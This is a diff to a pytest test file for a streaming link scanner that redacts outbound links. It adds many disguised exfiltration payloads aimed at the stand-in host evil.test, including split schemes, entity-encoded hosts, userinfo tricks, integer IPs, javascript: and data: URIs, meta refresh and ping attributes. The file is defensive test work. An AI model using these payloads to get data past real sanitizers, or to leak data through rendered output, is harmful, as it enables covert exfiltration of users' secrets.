@@ -1,3 +1,5 @@
+import re
+
 import pytest
 from exchanges import exchange, guard_env, read_only
 from hypothesis import example, given
@@ -72,7 +74,7 @@ BAD = {
     "[a](https&colon;//evil.test)": "[a]([LINK])",
     "[a](https\\://evil.test)": "[a]([LINK])",
     "[a](https:\\/\\/evil.test)": "[a]([LINK])",
-    "<img src='ht\ntps://evil.test'>": "<img src='ht\n[LINK]'>",
+    "<img src='ht\ntps://evil.test'>": "<img src='[LINK]'>",
     "data:text/html;base64,PHA+": "[LINK]",
     "[a](data:,x)": "[a]([LINK])",
     "[a](javascript:alert(1))": "[a]([LINK](1))",
@@ -94,7 +96,87 @@ GOOD = [
     "AT&T &amp; more; a & b",
     "re.compile(r'\\d+:\\w')",
     "mail me@evil.test",
+    "In JavaScript:\n\n```js\nf()\n``` and **JavaScript:** or (JavaScript: the good parts)",
+    "<a href=\"https://example.com\">example.com</a>, <a href='https://example.com'>a &amp; b</a>",
+    '["https://example.com","https://example.com"], "https://example.com".',
+    "https://example.com\nNext line",
+    "if a < b:\n    return 'https://example.com/x'\n// see",
+    "for (i = 0; i<n; i++) //comment\n",
+    '[PERSON_bcdfghjklm] said so, see [URL_bcdfghjkl] and name="[PERSON_bcdfghjklm]"',
+    "`https://` and https:, then",
 ]
+
+
+# What some reader takes for a link to another host, and where the host of the list stands first, or the
+# host is spelled as only browsers read it.
+DISGUISED = [
+    *(
+        f"![x](https://example.com{sign}@evil.test/?q=s)"
+        for sign in ("'", "()", "`", '"', ",", ">", "\\", ":80")
+    ),
+    "![x](https://'@evil.test/?q=s)",
+    "![x](//example.com'@evil.test/q)",
+    "![x](<https://example.com @evil.test/?q=s>)",
+    '<img src="https://example.com @evil.test/?q=s">',
+    '<img src="https://example.com\x01@evil.test/?q=s">',
+    '<img src="https://example.com`@evil.test/?q=s">',
+    "<img src='https://example.com\"@evil.test/?q=s'>",
+    "<img src='https://example.com\" @evil.test/?q=s'>",
+    '<img src="https://example.com&quot; @evil.test/?q=s">',
+    '<img src="https://example.com\n@evil.test/?q=s">',
+    '<img src="https://example.com\n.evil.test/?q=s">',
+    '<img alt = "x"\n src\n=\n"https://example.com\n.evil.test/?q=s">',
+    "<!-- <a title=' --> <img srcset=\"x'> 1x, https://example.com\n@evil.test 1x\">",
+    '<img srcset="a\' 1x, https://example.com\n.evil.test/ 1x">',
+    '<img src="https://\nevil.test/?q=s">',
+    '<img src="https:/\n/evil.test/?q=s">',
+    '<img src="/\t/evil.test/?q=s">',
+    '<img src="ht\tt\tp\ts\t:\t/\t/\tevil.test/?q=s">',
+    '<img src="/&Tab;/evil.test/?q">',
+    '<img src="/&NewLine;/evil.test/?q">',
+    '<img src="\x01//evil.test/?q=s">',
+    "![x](\u00a0//evil.test/?q=s)",
+    "[x](&sol;/evil\\.test/?q=s)",
+    "[x](http&#115;://example.com\\@evil.test/?q=s)",
+    "[x](http&#115;&#58;//evil.test/?q=s)",
+    "[x](https://example.com&commat;evil.test/?q=s)",
+    '{"a": "\\u0068ttps://evil.test"}',
+    "[x](https:///evil.test/?q=s)",
+    "[x](https:\\/\\evil.test/?q=s)",
+    "https://example.com%2eevil.test/",
+    "https://example.com'.evil.test/",
+    "[x](//evil\u3002test/?q=s)",
+    "[x](//evil%2etest/?q=s)",
+    "[x](//2130706433/?q=s)",
+    "[x](//0x7f000001/?q=s)",
+    "[x](//evil/?q=s)",
+    '<meta http-equiv=refresh content="0; //evil.test/?q=s">',
+    '<a ping="/x //evil.test/?q=s" href="/">',
+    '<a ping="[x]\x0c//evil.test/?q=s" href="/">',
+    "[x](javascript:(fetch)(1))",
+    "[x](javascript:'a')",
+    "[x](javascript:`a`)",
+    "[x]: javascript:{}",
+    "<javascript:'a'>",
+    '<a href="javascript:\nalert(1)">',
+    '<a href="java\nscript:alert(1)">',
+    '<a href="java&Tab;script:alert(1)">',
+    '<a href="\x01javascript:x">',
+    '<a href="\x01\x0cjavascript:{}">',
+    '<iframe src="data:text/html ,x">',
+    '<a href="data:text/html;a=\',PHNj">',
+    f'<a href="data:text/html;{"a" * 201},x">',
+    "[x](mailto:a@evil.test?body=s)",
+    "[x](<intent:x#Intent;scheme=https;end>)",
+]
+
+
+@pytest.mark.parametrize("text", DISGUISED)
+def test_a_host_in_disguise_is_another_one(text):
+    made = scanner()()
+    left = "".join(made.feed(letter).released for letter in text) + made.feed("", eof=True).released
+    assert left == redacted(text) != text
+    assert judged(scanner(edits=False), [text])[1] != ()
 
 
 @pytest.mark.parametrize("text", BAD)
@@ -123,6 +205,12 @@ fragments = st.sampled_from(
     [
         *BAD,
         *GOOD,
+        *DISGUISED,
+        "<img src=",
+        "'",
+        "\n",
+        "[URL_bcdfghjklm]",
+        "\u4e2d",
         "https",
         "://",
         "evil.test",
@@ -138,7 +226,7 @@ fragments = st.sampled_from(
     ]
 )
 texts = st.lists(fragments, max_size=8).map("".join) | st.text(
-    st.sampled_from('htps:/.w ()\\"&;a@'), max_size=60
+    st.sampled_from('htps:/.w ()\\"&;a@<=\n\x01\u4e2d['), max_size=60
 )
 
 
@@ -165,8 +253,52 @@ def judged_all(make, pieces):
 
 
 @given(texts)
-def test_what_is_left_has_no_link(text):
-    assert judged(scanner(edits=False), [redacted(text)])[1] == ()
+def test_what_is_left_leads_nowhere_else(text):
+    assert (
+        re.search(r"(?:https?:|wss?:|ftp:)[/\\]*evil|www\.evil|\]\([/\\]{2,}evil", redacted(text)) is None
+    )
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x]([URL_bcdfghjklm]SECRET)",
+        "see [URL_bcdfghjklm]?q=SECRET",
+        "[x]: [OWN_RULE_bcdfghjklm]",
+        "![x](<[OWN_RULE_bcdfghjklm]>)",
+        '<img src="[OWN_RULE_bcdfghjklm]">',
+        "https://[OWN_RULE_bcdfghjklm]/",
+        "https:[OWN_RULE_bcdfghjklm]",
+        "[x](//[OWN_RULE_bcdfghjklm]/)",
+        "[CONNECTION_STRING_bcdfghjklm]",
+    ],
+)
+def test_the_token_of_a_value_that_comes_back_later_is_a_target_like_the_value(text):
+    assert re.search("_[a-z]{10}", redacted(text)) is None
+
+
+def test_text_of_scripts_without_spaces_is_not_held():
+    made = scanner()()
+    assert made.feed("\u8fd9\u662f" * 50).released == "\u8fd9\u662f" * 50
+    assert made.feed("\u8fd9https://evil.test").released == "\u8fd9"
+    assert made.feed("", eof=True).released == "[LINK]"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<" + "/\\" * 5_000,
+        "&#104;" * 3_000,
+        ":" * 9_000,
+        "<a b='" + "\n" * 9_000 + "//evil.test/",
+        "[A" * 5_000,
+    ],
+)
+def test_whatever_comes_what_is_held_is_bounded(text):
+    made = scanner()()
+    for start in range(0, len(text), 500):
+        made.feed(text[start : start + 500])
+        assert made.held_chars <= LIMITS.link_word_chars_max
 
 
 @pytest.mark.parametrize("size", [1, 7, 1_000, 5_000])
